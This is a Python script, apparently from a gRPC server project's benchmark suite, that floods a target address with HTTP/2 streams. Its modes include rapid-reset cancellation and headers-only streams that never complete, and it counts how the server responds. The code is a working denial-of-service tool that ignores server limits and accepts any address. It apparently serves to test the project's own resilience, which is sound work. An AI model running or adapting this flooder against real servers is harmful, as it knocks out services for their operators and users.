"""``python -m scripts.attack.raw_streams ADDRESS CONNECTIONS HABIT RATE``: opens HTTP/2 streams.

It needs no key, heeds no limit of the server, and goes on until the end of its standard input; then
it prints one line of JSON with what it sent and what came back.
"""

from __future__ import annotations

import asyncio
import sys
from collections import Counter
from enum import StrEnum
from typing import Final, cast

from h2.connection import H2Connection
from hpack import Encoder
from hyperframe.frame import (
    DataFrame,
    Frame,
    GoAwayFrame,
    HeadersFrame,
    PingFrame,
    RstStreamFrame,
    SettingsFrame,
)

from croupier_server.bench.loop import run
from croupier_server.bench.marks import say

METHOD: Final = "/croupier.v1.SystemService/GetServerInfo"
"""A call that takes no key."""

_BATCH: Final = 100
_UNSENT_MAX: Final = 1 << 18
_CANCEL: Final = 0x8
_HEADER_BYTES: Final = 9
_EMPTY_MESSAGE: Final = bytes(5)
_STREAM_MAX: Final = (1 << 31) - 1


class Habit(StrEnum):
    """What the attacker does with a stream once it is open."""

    RESET = "reset"
    """Sends the request and resets the stream at once."""
    FINISH = "finish"
    """Sends the request and reads the answer."""
    HOLD = "hold"
    """Sends headers and nothing else, so that the call never ends."""


class Attacker(asyncio.Protocol):
    """One connection.

    Args:
        authority: host and port of the server.
        habit: what becomes of the streams.
        seen: counts streams sent, and by name what the server does.
    """

    def __init__(self, authority: str, habit: Habit, seen: Counter[str]) -> None:
        self._headers = Encoder().encode(
            [
                (":method", "POST"),
                (":scheme", "http"),
                (":path", METHOD),
                (":authority", authority),
                ("content-type", "application/grpc"),
                ("te", "trailers"),
            ],
            huffman=False,
        )
        self._habit = habit
        self._seen = seen
        self._unread = b""
        self._next = 1
        self._transport: asyncio.Transport | None = None

    @property
    def is_open(self) -> bool:
        """Whether streams can be opened on this connection."""
        return self._transport is not None and self._next < _STREAM_MAX

    def connection_made(self, transport: asyncio.BaseTransport) -> None:
        """See `asyncio.Protocol`."""
        self._transport = cast("asyncio.Transport", transport)  # uvloop's are of no such class
        hello = H2Connection()
        hello.initiate_connection()
        hello.increment_flow_control_window(1 << 30)
        self._transport.write(hello.data_to_send())

    def connection_lost(self, error: Exception | None) -> None:
        """See `asyncio.Protocol`."""
        self._seen["connections lost"] += self._transport is not None
        self._transport = None

    def open_streams(self) -> None:
        """Send a batch of streams, if the server still reads."""
        if self._transport is None or self._transport.get_write_buffer_size() > _UNSENT_MAX:
            return
        self._transport.write(b"".join(self._stream() for _ in range(_BATCH)))
        self._seen["streams"] += _BATCH

    def _stream(self) -> bytes:
        number, self._next = self._next, self._next + 2
        data = HeadersFrame(number, self._headers, flags=["END_HEADERS"]).serialize()
        if self._habit is Habit.HOLD:
            return data
        data += DataFrame(number, _EMPTY_MESSAGE, flags=["END_STREAM"]).serialize()
        if self._habit is Habit.RESET:
            data += RstStreamFrame(number, _CANCEL).serialize()
        return data

    def data_received(self, data: bytes) -> None:
        """See `asyncio.Protocol`."""
        unread, at = self._unread + data, 0
        while len(unread) - at >= _HEADER_BYTES:
            frame, length = Frame.parse_frame_header(memoryview(unread[at : at + _HEADER_BYTES]))
            end = at + _HEADER_BYTES + length
            if len(unread) < end:
                break
            frame.parse_body(memoryview(unread[at + _HEADER_BYTES : end]))
            self._take(frame)
            at = end
        self._unread = unread[at:]

    def _take(self, frame: Frame) -> None:
        assert self._transport is not None
        match frame:
            case SettingsFrame() if "ACK" not in frame.flags:
                self._transport.write(SettingsFrame(0, flags=["ACK"]).serialize())
            case PingFrame() if "ACK" not in frame.flags:
                self._transport.write(PingFrame(0, frame.opaque_data, flags=["ACK"]).serialize())
            case RstStreamFrame():
                self._seen[f"reset with {frame.error_code}"] += 1
            case GoAwayFrame():
                self._seen[f"goaway with {frame.error_code}"] += 1
            case HeadersFrame() if "END_STREAM" in frame.flags:
                self._seen["answers"] += 1


async def attack(address: str, connections: int, habit: Habit, rate: float) -> None:
    """Open *rate* streams a second in all until the end of the input."""
    loop = asyncio.get_running_loop()
    lines = asyncio.StreamReader()
    await loop.connect_read_pipe(lambda: asyncio.StreamReaderProtocol(lines), sys.stdin)
    host, _, port = address.rpartition(":")
    seen: Counter[str] = Counter()
    crowd = []
    for _ in range(connections):
        _, attacker = await loop.create_connection(
            lambda: Attacker(address, habit, seen), host, int(port)
        )
        crowd.append(attacker)
    say({})
    over = asyncio.create_task(lines.readline())
    began, number = loop.time(), 0
    while not over.done():
        crowd[number % connections].open_streams()
        number += 1
        await asyncio.sleep(max(began + number * _BATCH / rate - loop.time(), 0))
    say(dict(seen))


if __name__ == "__main__":
    run(attack(sys.argv[1], int(sys.argv[2]), Habit(sys.argv[3]), float(sys.argv[4])))
